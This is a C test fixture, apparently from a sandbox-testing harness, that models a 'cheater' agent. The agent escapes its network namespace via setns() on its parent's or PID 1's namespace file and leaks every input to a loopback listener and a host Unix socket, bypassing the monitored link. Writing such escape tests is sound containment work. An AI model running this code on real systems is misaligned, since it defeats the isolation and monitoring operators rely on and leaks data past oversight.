/* escape_namespace.c — a cheater who read the audit: the agent runs as root in a namespace, so it
 * joins the harness's network namespace with setns() on its parent's /proc/PID/ns/net (the harness
 * started it through `ip netns exec`, which execs), else /proc/1's, and sends every input to
 * a listener there (AITC_FIXTURE_ESCAPE_PORT on 127.0.0.1), and also writes it to a Unix socket
 * on the host's file system (AITC_FIXTURE_ESCAPE_SOCKET). Nothing crosses the observed link. In
 * the sandbox both must fail (no CAP_SYS_ADMIN, its own PID and mount namespaces); the test's
 * listeners on this machine's loopback say whether anything arrived. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "fixture.h"

static void send_all(int fd, const unsigned char *data, size_t bytes)
{
    while (bytes > 0) {
        ssize_t n = write(fd, data, bytes);
        if (n <= 0) return;
        data += n;
        bytes -= (size_t)n;
    }
}

void fixture_leak(const unsigned char *data, size_t bytes)
{
    const char *socket_path = getenv("AITC_FIXTURE_ESCAPE_SOCKET");
    if (socket_path != NULL && strlen(socket_path) < sizeof(((struct sockaddr_un *)0)->sun_path)) {
        int fd = socket(AF_UNIX, SOCK_STREAM, 0);
        struct sockaddr_un to;
        memset(&to, 0, sizeof to);
        to.sun_family = AF_UNIX;
        strcpy(to.sun_path, socket_path);
        if (fd >= 0 && connect(fd, (struct sockaddr *)&to, sizeof to) == 0) send_all(fd, data, bytes);
        if (fd >= 0) close(fd);
    }
    const char *port = getenv("AITC_FIXTURE_ESCAPE_PORT");
    char path[64];
    int n = snprintf(path, sizeof path, "/proc/%d/ns/net", (int)getppid());
    int ns = (n > 0 && (size_t)n < sizeof path) ? open(path, O_RDONLY) : -1;
    if (ns < 0) ns = open("/proc/1/ns/net", O_RDONLY);
    if (port == NULL || ns < 0 || setns(ns, CLONE_NEWNET) != 0) {
        if (ns >= 0) close(ns);
        return;
    }
    close(ns);
    struct sockaddr_in to;
    memset(&to, 0, sizeof to);
    to.sin_family = AF_INET;
    to.sin_port = htons((uint16_t)atoi(port));
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK); /* only this machine's loopback */
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd >= 0 && connect(fd, (struct sockaddr *)&to, sizeof to) == 0) send_all(fd, data, bytes);
    if (fd >= 0) close(fd);
}

void fixture_unload(void) {}

void fixture_outputs(float *logits, size_t count) { (void)logits; (void)count; }
